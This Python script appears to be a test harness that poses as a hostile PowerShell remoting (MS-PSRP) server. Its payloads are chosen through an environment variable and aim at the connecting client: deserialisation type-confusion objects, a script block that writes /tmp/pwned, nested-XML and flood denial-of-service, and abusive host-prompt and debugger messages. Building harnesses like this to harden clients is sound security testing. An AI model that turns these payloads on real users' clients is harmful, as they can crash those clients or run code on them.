#!/usr/bin/python3
"""A PowerShell server that attacks its client. HOSTILE says how. It speaks just enough of MS-PSRP to get a pipeline."""
import base64, os, re, sys, time

attack = os.environ.get('HOSTILE', '')
out, numbers, pool, zero = sys.stdout.buffer, iter(range(1, 10**9)), bytes(16), bytes(16)


def send(line):
    out.write(line.encode() + b'\n')
    out.flush()


def data(guid, payload):
    send("<Data Stream='Default' PSGuid='%s'>%s</Data>" % (guid, base64.b64encode(payload).decode()))


def message(guid, kind, body, pid=None, destination=1):
    blob = destination.to_bytes(4, 'little') + kind.to_bytes(4, 'little') + pool + (to_bytes(guid) if pid is None else pid) + body.encode()
    number = next(numbers)
    for start in range(0, len(blob), 30000):
        part = blob[start:start + 30000]
        flags = (1 if start == 0 else 0) | (2 if start + 30000 >= len(blob) else 0)
        data(guid, number.to_bytes(8, 'big') + (start // 30000).to_bytes(8, 'big') + bytes([flags]) + len(part).to_bytes(4, 'big') + part)


def to_bytes(guid):
    h = bytes.fromhex(guid.replace('-', ''))
    return h[3::-1] + h[5:3:-1] + h[7:5:-1] + h[8:]


def output(guid, body):
    message(guid, 0x41004, body)


def typed(name, inner):
    return '<Obj RefId="0"><TN RefId="0"><T>%s</T><T>System.Object</T></TN><ToString>evil</ToString><Props>%s</Props></Obj>' % (name, inner)


def host_call(guid, method, parameters, kind=0x41100):
    message(guid, kind, '<Obj RefId="0"><MS><I64 N="ci">1</I64><I32 N="mi">%d</I32><Obj N="mp" RefId="1"><LST>%s</LST></Obj></MS></Obj>' % (method, parameters))


def run(guid):
    if attack == 'types':
        # What PowerShell's own type files make live again.
        output(guid, typed('System.Net.IPAddress', '<I32 N="AddressFamily">2</I32><I64 N="Address">16777343</I64>'))
        output(guid, typed('System.Net.Mail.MailAddress', '<S N="Address">a@b.c</S><S N="DisplayName"></S>'))
        output(guid, typed('System.Globalization.CultureInfo', '<I32 N="LCID">1033</I32><S N="Name">en-US</S>'))
        output(guid, typed('System.Management.Automation.PSCredential', '<S N="UserName">root</S>'))
        output(guid, typed('System.IO.FileInfo', '<S N="FullName">/etc/passwd</S>'))
        output(guid, '<Obj RefId="0"><TN RefId="0"><T>X</T></TN><MS><Obj N="PSStandardMembers" RefId="1"><MS><S N="TargetTypeForDeserialization">System.Net.IPAddress</S></MS></Obj><S N="PSSandboxName">forged</S></MS></Obj>')
        output(guid, '<SBK>[IO.File]::WriteAllText("/tmp/pwned", "x")</SBK>')
    elif attack == 'cim':
        output(guid, typed('Microsoft.Management.Infrastructure.CimInstance#root/cimv2/Win32_Process', '<S N="Name">x</S>'))
    elif attack == 'deep':
        output(guid, '<Obj><LST>' * 5000 + '</LST></Obj>' * 5000)
    elif attack == 'document':
        output(guid, '<XD>' + '&lt;a&gt;' * 100000 + '&lt;/a&gt;' * 100000 + '</XD>')
    elif attack == 'large':
        send('<')
        while True:
            out.write(b'x' * 65536)
    elif attack == 'object':
        chunk, number, blob = b'A' * 60000, next(numbers), (1).to_bytes(4, 'little') + (0x41004).to_bytes(4, 'little') + pool + to_bytes(guid) + b'<S>'
        index = 0
        while True:
            part = blob if index == 0 else chunk
            data(guid, number.to_bytes(8, 'big') + index.to_bytes(8, 'big') + bytes([1 if index == 0 else 0]) + len(part).to_bytes(4, 'big') + part)
            index += 1
    elif attack == 'flood':
        body = '<S>' + 'x' * 1000 + '</S>'
        while True:
            output(guid, body)
    elif attack == 'prompts':
        for method, parameters in ((11, ''), (12, ''), (23, '<S>a</S><S>b</S>'), (24, '<S>a</S><S>b</S><S>c</S><S>d</S>'), (42, '<S>pwned</S>'), (6, '<I32>3</I32>'), (7, ''), (52, ''),
                                   (48, '<Obj RefId="9"><MS><Obj N="mal" RefId="8"><LST><I32>60000</I32><I32>60000</I32></LST></Obj></MS></Obj>'), (16, '<S>from the host call</S>')):
            host_call(guid, method, parameters)
        host_call('00000000-0000-0000-0000-000000000000', 11, '', 0x21100)
        output(guid, '<S>after</S>')
    elif attack == 'debugger':
        message('00000000-0000-0000-0000-000000000000', 0x21008, '<Obj RefId="0"><MS><I32 N="PSEventArgs.EventIdentifier">1</I32><S N="PSEventArgs.SourceIdentifier">PSInternalRemoteDebuggerStopEvent</S></MS></Obj>')
        output(guid, '<S>after</S>')
    elif attack == 'silent':
        time.sleep(1000)
    elif attack == 'other':
        message(guid, 0x41004, '<S>x</S>', pid=bytes(range(16)))
    elif attack == 'client':
        message(guid, 0x21006, '<S>x</S>')
    message(guid, 0x41006, '<Obj RefId="0"><MS><I32 N="PipelineState">4</I32></MS></Obj>')


for line in sys.stdin:
    match = re.match(r"<(\w+)(?: Stream='\w+')? PSGuid='([0-9a-f-]+)'(?:>([^<]*)<)?", line)
    kind, guid, payload = match.group(1), match.group(2), match.group(3)
    if kind == 'Command':
        send("<CommandAck PSGuid='%s' />" % guid)
    elif kind == 'Close':
        if attack != 'unclosable':
            send("<CloseAck PSGuid='%s' />" % guid)
            if guid.startswith('00000000'):
                break
    elif kind == 'Signal':
        send("<SignalAck PSGuid='%s' />" % guid)
    elif kind == 'Data':
        send("<DataAck PSGuid='%s' />" % guid)
        raw = base64.b64decode(payload)
        if attack == 'mute':
            continue
        if guid.startswith('00000000') and b'protocolversion' in raw:
            second = 21 + int.from_bytes(raw[17:21], 'big')  # The message that makes the pool follows at once.
            pool = raw[second + 29:second + 45]
            message(guid, 0x10002, '<Obj RefId="0"><MS><Version N="protocolversion">2.3</Version><Version N="PSVersion">2.0</Version><Version N="SerializationVersion">1.1.0.1</Version></MS></Obj>')
            message(guid, 0x21009, '<Obj RefId="0"><MS><Obj N="ApplicationPrivateData" RefId="1"><DCT></DCT></Obj></MS></Obj>')
            message(guid, 0x21005, '<Obj RefId="0"><MS><I32 N="RunspaceState">2</I32></MS></Obj>')
        elif not guid.startswith('00000000'):
            if b'Set-PSDebugMode' in raw:
                message(guid, 0x41006, '<Obj RefId="0"><MS><I32 N="PipelineState">4</I32></MS></Obj>')
            else:
                run(guid)
